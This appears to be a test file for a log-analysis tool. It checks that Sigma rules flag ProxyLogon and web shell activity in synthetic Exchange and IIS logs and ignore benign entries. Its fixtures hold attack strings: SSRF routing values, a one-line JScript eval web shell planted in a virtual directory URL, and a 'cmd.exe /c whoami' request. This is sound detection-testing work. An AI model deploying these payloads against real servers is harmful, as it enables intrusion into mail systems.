/**
 * The built-in Exchange and web rules against what the readers make of logs in Exchange's and IIS's real formats:
 * the field names, values and logsource hints must line up, or the built-in pack would miss ProxyLogon. The logs are
 * composed here from the formats' documentation and the public descriptions of the exploitation (Microsoft's
 * HAFNIUM blog, Volexity, CISA AA21-062A, Test-ProxyLogon.ps1); benign logs of the same formats must stay quiet.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import type { EventRecord, FieldValue, LogsourceHint } from '../../src/events/event.js';
import { MapEvent } from '../../src/sources/record.js';
import { DATA, dataMissing, ROOT } from '../helpers.js';
import { crlf, readContent, readFile } from './read-helper.js';
import { loadSubsetRule, type SubsetRule } from './sigma-subset.js';

const RULE_FILES = [
  'exchange/proxylogon_ssrf_httpproxy.yml',
  'exchange/proxylogon_ecp_virtual_directory.yml',
  'exchange/proxylogon_ecp_oab_script_url.yml',
  'exchange/proxylogon_oab_download_failed.yml',
  'exchange/exchange_webshell_request.yml',
  'exchange/proxyshell_autodiscover_ssrf.yml',
  'webshell/webshell_command_in_request.yml',
];
const rules: SubsetRule[] = RULE_FILES.map((f) => loadSubsetRule(join(ROOT, 'rules', 'sigma', f)));

/** Titles of the rules that fire on any event of a file. */
function flagged(events: EventRecord[]): string[] {
  return [...new Set(events.flatMap((e) => rules.filter((r) => r.matches(e)).map((r) => r.title)))].sort();
}

const HTTPPROXY = 'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus'.split(',');

function proxyRow(v: Record<string, string>): string {
  return HTTPPROXY.map((c) => {
    const x = v[c] ?? '';
    return /[",]/.test(x) ? `"${x.replace(/"/g, '""')}"` : x;
  }).join(',');
}

function proxyLog(protocol: string, rows: Record<string, string>[]): string {
  return crlf([
    '#Software: Microsoft Exchange Server',
    '#Version: 15.02.0792.003',
    '#Log-type: HttpProxy Logs',
    '#Date: 2021-03-03T06:00:00.014Z',
    `#Fields: ${HTTPPROXY.join(',')}`,
    ...rows.map((r) => proxyRow({ Protocol: protocol, ServerHostName: 'EXCH01', ProxyAction: 'Proxy', ...r })),
  ]);
}

// CVE-2021-26855: unauthenticated requests to a static resource whose X-BEResource cookie routes to the back end.
const ssrf = (t: string, anchor: string) => ({
  DateTime: t, UrlHost: 'mail.example.org', UrlStem: '/ecp/q4hz.js', AuthenticationType: 'Anonymous', IsAuthenticated: 'false',
  AuthenticatedUser: '', AnchorMailbox: anchor, UserAgent: 'python-requests/2.25.1', ClientIpAddress: '198.51.100.23',
  HttpStatus: '200', Method: 'POST', RoutingHint: 'X-BEResource-Cookie',
});

const benignProxy = [
  { DateTime: '2021-03-03T06:10:00.000Z', UrlStem: '/owa/', AuthenticatedUser: 'CORP\\alice', AnchorMailbox: 'Smtp:alice@corp.example', UserAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)', ClientIpAddress: '10.1.1.20', HttpStatus: '200', Method: 'GET' },
  { DateTime: '2021-03-03T06:10:01.000Z', UrlStem: '/ecp/default.aspx', AuthenticatedUser: 'CORP\\admin', AnchorMailbox: 'ServerInfo~EXCH02.corp.example/ecp/default.aspx', UserAgent: 'Mozilla/5.0', HttpStatus: '200', Method: 'GET' },
  { DateTime: '2021-03-03T06:10:02.000Z', UrlStem: '/autodiscover/autodiscover.xml', AnchorMailbox: 'ServerInfo~EXCH02/autodiscover/autodiscover.xml', UserAgent: 'Microsoft Office/16.0', HttpStatus: '200', Method: 'POST' },
  { DateTime: '2021-03-03T06:10:03.000Z', UrlStem: '/ecp/HealthCheck.htm', AuthenticatedUser: 'NT AUTHORITY\\SYSTEM', AnchorMailbox: 'ServerInfo~localhost/ecp/HealthCheck.htm', UserAgent: 'AMProbe/Local/ClientAccess', ClientIpAddress: '::1', HttpStatus: '200', Method: 'GET' },
  { DateTime: '2021-03-03T06:10:04.000Z', UrlStem: '/owa/auth/logon.aspx', UrlQuery: '?url=https%3a%2f%2fmail.example.org%2fowa%2f', AnchorMailbox: '', HttpStatus: '200', Method: 'GET' },
];

const ECP_FIELDS = '#Fields: TimeStamp,ServerName,EventId,EventData';
const ecpLog = (rows: string[]) =>
  crlf(['#Software: Microsoft Exchange Server', '#Version: 15.0.0.0', '#Log-type: ECP Server Log', '#Date: 2021-03-03T00:00:07.123Z', ECP_FIELDS, ...rows]);
const ecpRow = (t: string, cmd: string) => {
  const data = `S:TIME=120;S:SID=3a0e2b11-5c4d-4e0f-9a1b-2c3d4e5f6a7b;S:CMD=${cmd};S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=Zm9v;S:EX=;S:ACTID=6a1d`;
  return `${t},EXCH01,ECP.Request,"${data.replace(/"/g, '""')}"`;
};

const IIS_HEADER = [
  '#Software: Microsoft Internet Information Services 10.0',
  '#Version: 1.0',
  '#Date: 2021-03-05 00:00:00',
  '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken',
];

describe('built-in Exchange and web rules on the readers’ events', () => {
  it('flags the CVE-2021-26855 rows of an HttpProxy log, and no benign row', () => {
    const { events } = readContent(
      proxyLog('Ecp', [
        ...benignProxy,
        ssrf('2021-03-03T06:49:42.162Z', 'ServerInfo~a]@EXCH01.corp.example:444/autodiscover/autodiscover.xml?#'),
        ssrf('2021-03-03T06:49:46.210Z', 'ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp?#'),
        ssrf('2021-03-03T06:49:51.543Z', 'ServerInfo~EXCH01.corp.example/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory'),
      ]),
      'Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG',
    );
    const ssrfRule = rules.find((r) => r.title.includes('CVE-2021-26855'))!;
    expect(events.filter((e) => ssrfRule.matches(e)).map((e) => e.time)).toEqual([
      '2021-03-03T06:49:42.162Z', '2021-03-03T06:49:46.210Z', '2021-03-03T06:49:51.543Z',
    ]);
    expect(flagged(events.slice(0, benignProxy.length))).toEqual([]);
  });

  it("flags the same rows in a PowerShell export of them (Test-ProxyLogon's CSV report)", () => {
    const cols = ['DateTime', 'RequestId', 'ClientIpAddress', 'UrlHost', 'UrlStem', 'RoutingHint', 'UserAgent', 'AnchorMailbox', 'HttpStatus'];
    const q = (vs: string[]) => vs.map((v) => `"${v}"`).join(',');
    const { events } = readContent(
      crlf([
        '#TYPE Selected.System.Management.Automation.PSCustomObject',
        q(cols),
        q(['2021-03-03T06:49:46.210Z', '5f1b', '198.51.100.23', 'mail.example.org', '/ecp/q4hz.js', 'X-BEResource-Cookie', 'python-requests/2.25.1', 'ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp?#', '241']),
      ]),
      'httpproxy_report.csv',
    );
    expect(flagged(events)).toEqual(['ProxyLogon SSRF (CVE-2021-26855) in Exchange HttpProxy Logs']);
    // Pasted under the path it came from, it is still read (the path line is counted, not fatal).
    const pasted = readContent(`C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\HttpProxy.LOG\r\n${crlf([
      '#TYPE Selected.System.Management.Automation.PSCustomObject', q(cols),
      q(['2021-03-03T06:49:46.210Z', '5f1b', '198.51.100.23', 'mail.example.org', '/ecp/q4hz.js', 'X-BEResource-Cookie', 'python-requests/2.25.1', 'ServerInfo~a]@EXCH01.corp.example:444/ecp/proxyLogon.ecp?#', '241']),
    ])}`, 'report.csv');
    expect(flagged(pasted.events)).toEqual(['ProxyLogon SSRF (CVE-2021-26855) in Exchange HttpProxy Logs']);
    expect(pasted.warnings).toHaveLength(1);
  });

  it('flags the CVE-2021-27065 rows of an ECP server log, whether it has its #Fields line or not', () => {
    const planted = "Set-OabVirtualDirectory.ExternalUrl='http://o/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"v\"],\"unsafe\");}</script>'.Identity='1c2e5a8f-8b9d-4c3e-a1f0-9e8d7c6b5a4f'";
    const rows = [
      ecpRow('2021-03-03T06:49:51.389Z', 'Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null'),
      ecpRow('2021-03-03T06:49:53.772Z', planted),
      ecpRow('2021-03-03T06:49:58.835Z', "Set-OabVirtualDirectory.ExternalUrl=$null.Identity='1c2e5a8f-8b9d-4c3e-a1f0-9e8d7c6b5a4f'"),
    ];
    const full = readContent(ecpLog(rows), 'Logging/ECP/Server/ECPServer20210303-1.LOG');
    const byRow = full.events.map((e) => rules.filter((r) => r.matches(e)).map((r) => r.title).sort());
    expect(byRow).toEqual([
      [],
      ['ProxyLogon Virtual Directory Tampering (CVE-2021-27065) in Exchange ECP Server Logs', 'Script Written into an Exchange Virtual Directory URL'],
      ['ProxyLogon Virtual Directory Tampering (CVE-2021-27065) in Exchange ECP Server Logs'],
    ]);
    // The same log without its #Fields line (an extract of two columns) still says it.
    const extract = readContent(
      ['C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\\ECPServer20210303-1.LOG', '#Software: Microsoft Exchange Server', '#Log-type: ECP Server Log', `2021-03-03T06:49:53.772Z,'S:CMD=${planted.replace(/'/g, "''")}'`].join('\n'),
      'ecp_extract.log',
    );
    expect(flagged(extract.events)).toEqual(['ProxyLogon Virtual Directory Tampering (CVE-2021-27065) in Exchange ECP Server Logs', 'Script Written into an Exchange Virtual Directory URL']);
    // Routine ECP use stays quiet.
    const routine = readContent(ecpLog([ecpRow('2021-03-03T09:00:00.000Z', 'Get-InboxRule'), ecpRow('2021-03-03T09:00:01.000Z', 'Get-OabVirtualDirectory.Identity=$null')]), 'ECPServer20210304-1.LOG');
    expect(flagged(routine.events)).toEqual([]);
  });

  it('flags the CVE-2021-26858 line of an OAB generator log', () => {
    const line = "2021-03-03T05:00:01.000Z,EXCH01,OABGeneration,Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed";
    const withFields = readContent(
      crlf(['#Software: Microsoft Exchange Server', '#Log-type: OABGenerator Log', '#Fields: DateTime,Server,Component,Message', line]),
      'Logging/OABGeneratorLog/OABGeneratorLog_20210303-1.log',
    );
    expect(flagged(withFields.events)).toEqual(['ProxyLogon Arbitrary File Write (CVE-2021-26858) in Exchange OAB Generator Logs']);
    const bare = readContent(crlf(['#Software: Microsoft Exchange Server', line]), 'Logging/OABGeneratorLog/OABGeneratorLog_20210303-2.log');
    expect(flagged(bare.events)).toEqual(['ProxyLogon Arbitrary File Write (CVE-2021-26858) in Exchange OAB Generator Logs']);
  });

  it('flags webshell requests in IIS logs (with and without their header) and in HttpProxy OWA rows', () => {
    const shell = (d: string) => `${d} 10.0.0.5 GET /owa/auth/RedirSuiteServerProxy.aspx &CorrelationID=<empty>;&cafeReqId=9f3a;&encoding=; 443 - 203.0.113.77 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 133`;
    const benignIis = '2021-03-05 03:00:00 10.0.0.5 GET /owa/auth/logon.aspx url=https%3a%2f%2fmail.example.org%2fowa%2f&reason=0 443 - 10.1.1.20 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 31';
    const iis = readContent(crlf([...IIS_HEADER, benignIis, shell('2021-03-05 03:06:27')]), 'W3SVC1/u_ex210305.log');
    expect(iis.events.map((e) => flagged([e]))).toEqual([[], ['Request to a Script in an Exchange Folder Where Webshells Are Planted']]);
    const cut = readContent(['C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex21030*.log', shell('2021-03-06 17:27:45'), '-----', shell('2021-03-08 20:37:27')].join('\n'), 'w3svc1_extract.log');
    expect(cut.events.map((e) => flagged([e]))).toEqual([
      ['Request to a Script in an Exchange Folder Where Webshells Are Planted'],
      ['Request to a Script in an Exchange Folder Where Webshells Are Planted'],
    ]);
    const owa = readContent(
      proxyLog('Owa', [
        { DateTime: '2021-03-05T03:06:27.696Z', UrlStem: '/owa/auth/RedirSuiteServerProxy.aspx', UrlQuery: '?&CorrelationID=<empty>;&cafeReqId=9f3a;', ClientIpAddress: '203.0.113.77', HttpStatus: '200', Method: 'GET' },
        { DateTime: '2021-03-05T03:07:00.000Z', UrlStem: '/owa/auth/logon.aspx', ClientIpAddress: '10.1.1.20', HttpStatus: '200', Method: 'GET' },
      ]),
      'Logging/HttpProxy/Owa/HttpProxy_2021030503-1.LOG',
    );
    expect(owa.events.map((e) => flagged([e]))).toEqual([['Request to a Script in an Exchange Folder Where Webshells Are Planted'], []]);
    const command = readContent(crlf([...IIS_HEADER, '2021-03-05 04:00:00 10.0.0.5 POST /aspnet_client/system_web/k.aspx c=cmd.exe+/c+whoami 443 - 203.0.113.77 - - 200 0 0 12']), 'u_ex210305.log');
    expect(flagged(command.events)).toEqual(['Request to a Script in an Exchange Folder Where Webshells Are Planted', 'Shell Command Passed in a Web Request']);
  });

  it('every field a rule reads is one the readers produce for its logsource', () => {
    const samples: EventRecord[] = [
      ...readContent(proxyLog('Ecp', benignProxy), 'HttpProxy_x.LOG').events,
      ...readContent(ecpLog([ecpRow('2021-03-03T09:00:00.000Z', 'Get-InboxRule')]), 'ECPServer.LOG').events,
      ...readContent(crlf(['#Software: Microsoft Exchange Server', '2021-03-03T05:00:01.000Z,OAB generation done']), 'OABGeneratorLog/x.log').events,
      ...readContent(crlf([...IIS_HEADER, '2021-03-05 03:00:00 10.0.0.5 GET /a b=1 443 - 1.2.3.4 UA - 200 0 0 31']), 'u_ex.log').events,
      ...readContent('1.2.3.4 - - [10/Oct/2000:13:55:36 -0700] "GET /a?b=1 HTTP/1.0" 200 2326 "-" "x"\n', 'access.log').events,
    ];
    for (const r of rules) {
      const placed = samples.filter((e) => (['product', 'category', 'service'] as const).every((k) => r.logsource[k] === undefined || r.logsource[k] === e.logsource?.[k]));
      expect(placed.length, `${r.title}: no reader produces its logsource`).toBeGreaterThan(0);
      for (const f of r.fields) {
        expect(placed.some((e) => e.get(f) !== undefined), `${r.title}: field ${f}`).toBe(true);
      }
    }
  });
});

describe('the rules’ own test events (match / no_match in each .tests.yml)', () => {
  for (const f of RULE_FILES) {
    it(f, () => {
      const rule = loadSubsetRule(join(ROOT, 'rules', 'sigma', f));
      const cases = parse(readFileSync(join(ROOT, 'rules', 'sigma', f.replace(/\.yml$/, '.tests.yml')), 'utf8')) as Record<'match' | 'no_match', Record<string, unknown>[]>;
      const toEvent = (o: Record<string, unknown>) => {
        const { logsource, ...rest } = o;
        return new MapEvent(new Map(Object.entries(rest) as [string, FieldValue][]), {
          host: undefined, time: undefined, recordId: 0, logsource: logsource as LogsourceHint | undefined,
        });
      };
      expect(cases.match.map((c) => rule.matches(toEvent(c)))).toEqual(cases.match.map(() => true));
      expect(cases.no_match.map((c) => rule.matches(toEvent(c)))).toEqual(cases.no_match.map(() => false));
    });
  }
});

const benign = dataMissing('weblogs', 'benign-iis-brianary');
describe.skipIf(benign)('built-in web rules on real benign IIS logs', () => {
  it('raise nothing', () => {
    const dir = join(DATA, 'weblogs', 'benign-iis-brianary');
    for (const name of readdirSync(dir).filter((f) => f.endsWith('.log'))) {
      expect(flagged(readFile(join(dir, name)).events), name).toEqual([]);
    }
  });
});
